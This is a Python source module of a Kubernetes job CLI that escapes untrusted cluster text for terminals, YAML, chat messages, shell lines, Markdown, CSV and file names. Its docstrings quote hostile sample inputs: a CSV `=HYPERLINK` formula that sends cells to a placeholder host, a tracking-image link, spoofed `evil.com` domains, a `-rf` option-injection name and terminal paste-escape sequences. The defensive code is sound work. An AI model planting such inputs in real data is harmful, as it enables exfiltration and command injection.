"""One escaper per sink cluster text is printed to (issue 33 item 4); docs/security.md lists each with its test.

Pure functions. The terminal's escaper is `sanitize.clean` (the headless commands' streams pass through it), Textual's
is none (Textual is given Text or Content, never markup), JSON output's `sanitize.json_dumps`; the others are here.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable
from functools import cache
from typing import Any

from rlark_tui.text.sanitize import clean, compiled

_BREAKS = r"[\n\r\t\v\f\x85\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
"""What makes one field look like two lines, or reorders what is shown beside it: line and paragraph breaks,
tabs, and the bidi marks, embeddings, overrides and isolates."""


def _visible(match: re.Match) -> str:
    char = match.group(0)
    return {"\n": "\\n", "\r": "\\r", "\t": "\\t"}.get(char, f"\\u{ord(char):04x}")


def one_line(text: object) -> str:
    """A name, reason or key for a one-line field (a cell of every CLI and TUI table too): `clean`, then every
    break or bidi control shown as its escape (`\\n`, `\\u202e`), so a forged line reads as one. Printable text
    (the usual cell) is returned as is after one test."""
    text = text if isinstance(text, str) else str(text)
    if text.isprintable():
        return text
    return compiled(_BREAKS).sub(_visible, clean(text))


FIELD_CHARS = 1000
"""The most characters of one field a screen lays out (`cut`): a Job author's display name, role name, image, env
value or script line of 100 KB was a second of the UI thread each, at every open of the Job's detail and at every
change of the Job while it was open (a Job of several, 7 s), wrapped over hundreds of rows."""


CUT_MARK = r"… \([0-9,]+ more characters\)"
"""What `cut` puts where it cut (redact.KnownSecrets masks a value's start left before it), a pattern for
sanitize.compiled, as this module's others."""


def cut(text: str, limit: int = FIELD_CHARS) -> str:
    """`text` to `limit` characters, the rest counted (`… (N more characters)`): for a field a screen lays out,
    before `one_line` (which then works on the part shown). Cut what is already masked where the values are known
    there; a text cut where they are not (an error quoting an answer, cluster/errors.quoted) is masked after, and
    KnownSecrets masks the start of a value that the cut left just before its mark."""
    if len(text) <= limit:
        return text
    return f"{text[:limit]}… ({len(text) - limit:,} more characters)"


def cut_lines(text: str, limit: int = FIELD_CHARS) -> str:
    """Each line of `text` cut by `cut`: for text of several lines a screen lays out (a field's messages, the
    lines of a YAML shown), whose number is bounded where it is made."""
    if len(text) <= limit:
        return text
    return "\n".join(cut(line, limit) for line in text.split("\n"))


def cell_width(text: str) -> int:
    """The columns `text` (one line, printable) takes on a terminal: East Asian wide and fullwidth characters two,
    combining marks and format characters (a zero-width joiner) none, others one. Tables pad by it: a cell padded by
    its length in code points moved the rest of its row under other headers."""
    if text.isascii():
        return len(text)
    return sum(map(_char_width, text))


def _char_width(char: str) -> int:
    if char.isascii():
        return 1
    from unicodedata import category, east_asian_width  # a table of ASCII cells never needs it

    if category(char) in ("Mn", "Me", "Cf"):
        return 0
    return 2 if east_asian_width(char) in ("W", "F") else 1


def pad(text: str, width: int) -> str:
    """`text` followed by the spaces that make it `width` columns on a terminal (`cell_width`); as is when wider."""
    return text + " " * (width - cell_width(text))


def clip(text: str, width: int) -> str:
    """`text` (one line, printable) in at most `width` columns on a terminal (`cell_width`): as is when it fits,
    else cut and ended with `…`. A column of wide characters cut by its length in code points took twice the
    columns, and what followed it stood under the next column's header."""
    if cell_width(text) <= width:
        return text
    shown, used = [], 0
    for char in text:
        used += _char_width(char)
        if used > width - 1:
            break
        shown.append(char)
    return "".join(shown) + "…"


NAME_CHARS = 253
"""The longest Kubernetes name: a name shown in a menu or a header beyond it is cut (`cut(name, NAME_CHARS)`)."""
COMPLETION_CHARS = NAME_CHARS
"""The longest name a completing shell is offered (a Kubernetes name's bound)."""


def completion_words(names: Iterable[object]) -> list[str]:
    """The names a completing shell is offered (`rlark completion`): only printable ones within COMPLETION_CHARS.
    argcomplete escapes the shell's special characters but not a control: ESC reached the terminal raw when bash
    listed the candidates, and `\v`, its separator, split one name into candidates of its own. A name that is
    not printable cannot be typed either; it is left out, not shown escaped (an escaped name names no object)."""
    return [name for name in names if isinstance(name, str) and 0 < len(name) <= COMPLETION_CHARS
            and name.isprintable()]


NOTIFICATION_CHARS = 200


def notification(text: object, limit: int = NOTIFICATION_CHARS) -> str:
    """Cluster text for a desktop notification (OSC 9, OSC 777: `ESC ] 777 ; notify ; title ; body BEL`), written
    to the terminal past Textual: `one_line` (no control, break or bidi control), `;` (the field separator) as `,`,
    at most `limit` characters."""
    return one_line(text).replace(";", ",")[:limit]


_BIDI = r"[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
_QUOTED = r"[\x85\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
"""What a string is double-quoted for: the bidi controls, and NEL, U+2028 and U+2029, which PyYAML with
allow_unicode writes raw in a plain or single-quoted scalar (followed by the indentation) and escapes (`\\N`,
`\\L`, `\\P`) only in a double-quoted one: `str.splitlines`, and so the YAML tab's highlighter, breaks a line at
each."""


def yaml_quoted(value: str) -> bool:
    """Is `value` written double-quoted in YAML a person reads: does it hold a bidi control or a line separator?"""
    return compiled(_QUOTED).search(value) is not None


def yaml_escaped(text: str) -> str:
    """YAML text with each bidi control as its escape (within the double quotes `yaml_quoted` asked for)."""
    return compiled(_BIDI).sub(lambda m: f"\\u{ord(m.group(0)):04x}", text)


@cache
def _yaml_dumper() -> type:
    import yaml  # loaded only by the commands that print YAML (startup time)

    class Dumper(yaml.SafeDumper):
        """A string holding a bidi control or a line separator is written double-quoted, where it is escaped."""

    def text(dumper: yaml.SafeDumper, value: str) -> yaml.ScalarNode:
        style = '"' if yaml_quoted(value) else None
        return dumper.represent_scalar("tag:yaml.org,2002:str", value, style=style)

    Dumper.add_representer(str, text)
    return Dumper


def yaml_dumps(value: Any, **kwargs: Any) -> str:
    """`yaml.safe_dump` for YAML a person reads (`-o yaml`, the YAML tab): the same document, but no bidi control is
    written raw (U+202E would reorder what follows it on the line). A string holding one is double-quoted, the
    style where `\\u202e` is an escape; so is one holding NEL, U+2028 or U+2029 (PyYAML escapes them only there:
    written raw they broke a line of the YAML tab). Line breaks and C1 controls PyYAML escapes itself."""
    import yaml

    return yaml_escaped(yaml.dump(value, Dumper=_yaml_dumper(), **kwargs))


_SCHEME = r"(?<=[A-Za-z0-9+.-]):(?=//)|(?<=[mM][aA][iI][lL][tT][oO]):"
"""The `:` of `scheme://` and of `mailto:` (a link without `//`)."""
_LINK = r"\]\s*\("
_IGNORED = "\xad\u034f\u180b-\u180f\u200b-\u200d\u2060\ufe00-\ufe0f\ufeff"
"""What IDNA (UTS #46) maps to nothing in a host (a soft hyphen, the zero-width characters, variation selectors):
`evil.\xadcom` is `evil.com` to a browser."""
_DOT = rf"\.(?=[{_IGNORED}]*[^\W\d_])"
"""A dot before a letter: every dot a host's labels are joined by but the dots of a number (`v1.2.3`, `10.0.0.1`,
whose last label no top-level domain is). Whatever comes before it: a word that starts with a character a client
still takes into a host (`~.evil.com`, `\u200b.io`, `＜.com`) or a second dot was linked whole."""
_WIDE_DOT = rf"[\u3002\uff0e\uff61](?=[{_IGNORED}]*[A-Za-z\uff21-\uff3a\uff41-\uff5a])"
"""An ideographic, full-width or half-width ideographic full stop before a Latin letter (`evil。com`, `evil．com`,
`evil。ｃｏｍ`):
IDNA (RFC 3490 3.1, UTS #46) reads each as a dot, so a client that links it opens evil.com. Chinese prose, where `。`
ends a sentence before more Chinese, is left as it is."""
FORMATS = ("slack", "feishu", "dingtalk")


def chat(text: object, fmt: str) -> str:
    """A chat bot's text from alert lines: no mention and no link survives. Every format: `scheme://` becomes
    `scheme[:]//` (`mailto:` `mailto[:]`) and every dot before a letter `[.]` (`evil[.]com`: Slack, Feishu and
    DingTalk link a bare domain too; so are the ideographic and full-width dots IDNA reads as dots before an ASCII
    letter, `evil[。]com`), and a markdown link `[x](y)` loses its bracket-paren. Slack: `&`, `<`, `>` as entities
    (`<!channel>`, `<@U1>`, `<http://x|y>` are inert). Feishu and DingTalk: `<` and `@` become their full-width forms
    (`<at user_id="all">`, `@all`, `@138…` are text)."""
    text = one_line(text)
    text = compiled(_LINK).sub("] (", compiled(_SCHEME).sub("[:]", text))
    text = compiled(_WIDE_DOT).sub(lambda dot: f"[{dot.group(0)}]", compiled(_DOT).sub("[.]", text))
    if fmt == "slack":
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if fmt in ("feishu", "dingtalk"):
        return text.replace("<", "\uff1c").replace("@", "\uff20")
    raise ValueError(f"chat format {fmt!r}: one of {', '.join(FORMATS)}")


def _ansi_c(char: str) -> str:
    if char in "\\'":
        return "\\" + char
    if char.isprintable():
        return char
    code = ord(char)
    return {"\n": "\\n", "\t": "\\t", "\r": "\\r"}.get(char) or (
        f"\\x{code:02x}" if code < 0x80 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}")


def shell_word(word: object) -> str:
    """One word of a command line rlark prints or copies: shlex.quote (a newline or `;` stays in its word); a word
    with a character that is not printable (a control, a line break, a bidi or zero-width mark) in bash's `$'...'`
    quoting instead, each such character as its escape (`\\x1b`, `\\n`, `\\u202e`): raw in the clipboard, ESC [201~
    ended a shell's bracketed paste and the characters after it were typed as keys (^U erased the line)."""
    text = word if isinstance(word, str) else str(word)
    if text.isprintable():
        return shlex.quote(text)
    return "$'" + "".join(_ansi_c(char) for char in text) + "'"


def shell_line(argv: Iterable[str], names: Iterable[str] = ()) -> str:
    """A command line rlark prints or copies: each word through shell_word. `argv` is the command and its options
    (an option's value from outside as one word, `--name=VALUE`: argparse takes a word that starts with `-` for
    an option, never for a value), `names` the positionals from outside that end it, after `--` when one starts
    with `-` (a Job called `-rf` from a hostile control plane: `rlark clone -rf` parsed as options)."""
    names = list(names)
    dashed = ["--"] if any(name.startswith("-") for name in names) else []
    return " ".join(shell_word(word) for word in [*argv, *dashed, *names])


_TICKS = r"`+"
_PIPE = r"(?<!\\)(\\*)\|"


def markdown_code(text: object, cell: bool = False) -> str:
    """Cluster text in a Markdown document someone pastes elsewhere (`rlark check --format md`, the saved record
    attached to an issue): `one_line`, then an inline code span whose fence is longer than any run of backticks in
    it. In a code span nothing is markup: no link or image (`![](http://x/track)` fetched a tracker for every reader
    of the issue), no HTML (`<img>`), no autolink, `@mention` or `#123` reference; and a backtick of the text does
    not end it. `cell`: inside a table row, where GitHub splits cells at `|` even within a code span, as `\\|`
    (the backslashes before it doubled, so that `\\|` of the text is no escaped backslash and a split). '' for ''."""
    text = one_line(text)
    if not text:
        return ""
    fence = "`" * (max((len(run) for run in compiled(_TICKS).findall(text)), default=0) + 1)
    pad = " " if text[0] in "` " or text[-1] in "` " else ""
    if cell:
        text = compiled(_PIPE).sub(lambda match: match.group(1) * 2 + "\\|", text)
    return f"{fence}{pad}{text}{pad}{fence}"


_FORMULA = ("=", "+", "-", "@")


def csv_cell(text: object) -> str:
    """Cluster text in a cell of CSV output (`rlark metrics -o csv`: TensorBoard tags the Job's code names): `one_line`,
    and a cell a spreadsheet would read as a formula (its first character other than a space `=`, `+`, `-` or `@`:
    `=HYPERLINK("http://x/?"&A2,"open")` sends the sheet's cells away when clicked) begins with `'`, which makes it
    text. rlark's own numbers are written as they are."""
    text = one_line(text)
    return "'" + text if text.lstrip(" ").startswith(_FORMULA) else text


_FILE_CHARS = r"[^A-Za-z0-9._-]"
_DEVICE = r"(?is)(?:con|prn|aux|nul|com[0-9]|lpt[0-9])(?:\..*)?"


def windows_device(name: str) -> bool:
    """Whether Windows takes a file of this name for a device, whatever its extension (CON, PRN, AUX, NUL, COM0-9,
    LPT0-9: `aux.log` and `nul.tar.gz` are AUX and NUL there): a member of an archive extracted on Windows under
    such a name is lost, or written into the device."""
    return compiled(_DEVICE).fullmatch(name) is not None
FILE_CHARS = 100


def utf8(text: str) -> bytes:
    """The bytes a file holds of `text`: UTF-8, a byte it was read from undecodable (surrogateescape) as that byte,
    and a lone surrogate (JSON's `\\ud800`, which a control plane may answer in a Job's name) as its escape,
    `\\ud800`, which JSON and YAML read back as it was: never UnicodeEncodeError out of a writer."""
    return encodable(text).encode("utf-8", "surrogateescape")


_LONE_SURROGATE = "[\ud800-\udc7f\udd00-\udfff]"
"""A surrogate that is no undecodable byte read with surrogateescape (those are U+DC80..U+DCFF)."""


def encodable(text: str) -> str:
    """`text` with each lone surrogate that stands for no undecodable byte as its escape (`\\ud800`): what a
    file, a program's argument or environment (os.fsencode) can hold."""
    return compiled(_LONE_SURROGATE).sub(lambda m: f"\\u{ord(m.group()):04x}", text)


def keyed_name(name: str, limit: int) -> str:
    """One path component for state kept per `name` (a kubeconfig context): `file_name` of it and 10 hex digits of
    its digest, so names that differ only where file_name made them alike (`a/b` and `a_b`, case, Unicode forms)
    name different files."""
    return f"{file_name(name or 'default', limit)}-{_digest(name)}"


def _digest(name: str) -> str:
    """10 hex digits of the digest of `name`'s bytes: those it was read from (surrogateescape), else a lone surrogate
    (JSON's `\\ud800`, which a control plane may answer) as it is, never UnicodeEncodeError."""
    import hashlib

    try:
        data = name.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:
        data = name.encode("utf-8", "surrogatepass")
    return hashlib.sha256(data).hexdigest()[:10]


_PLAIN_NAME = r"[a-z0-9]([a-z0-9.-]*[a-z0-9])?"


def object_file_name(name: str, limit: int = FILE_CHARS) -> str:
    """One path component from a cluster object's name (a Job's), apart from every other name's even on a
    case-insensitive file system: the name itself when it is a Kubernetes name (lower case, digits, `-`, `.`) of at
    most `limit` characters, beginning and ending with a letter or digit (Windows drops a last `.`), as every real
    Job's is; any other (`PPO` beside `ppo`, `a/b` beside `a_b`, which a
    hostile control plane may answer) is `file_name` of it, `_` and 10 hex digits of its digest: never a Kubernetes
    name, so never another name's plain one."""
    if len(name) <= limit and compiled(_PLAIN_NAME).fullmatch(name):
        return name
    return f"{file_name(name, limit - 11)}_{_digest(name)}"


def file_name(name: object, limit: int = FILE_CHARS) -> str:
    """One path component from a cluster name: `[A-Za-z0-9._-]` only (others `_`), no leading dot (no `..`, no
    hidden file), at most `limit` characters, never empty. A name longer than `limit` ends in `-` and 8 hex digits
    of its digest, so two long names that differ past the cut (the Pods of a Job with a 95-character name) name
    different files."""
    raw = name if isinstance(name, str) else str(name)
    text = compiled(_FILE_CHARS).sub("_", raw)
    if len(text) > limit:
        import hashlib  # here: only a name past the bound needs it

        text = text[:limit - 9] + "-" + hashlib.sha256(raw.encode("utf-8", "surrogatepass")).hexdigest()[:8]
    text = text.lstrip(".")
    return text or "_"
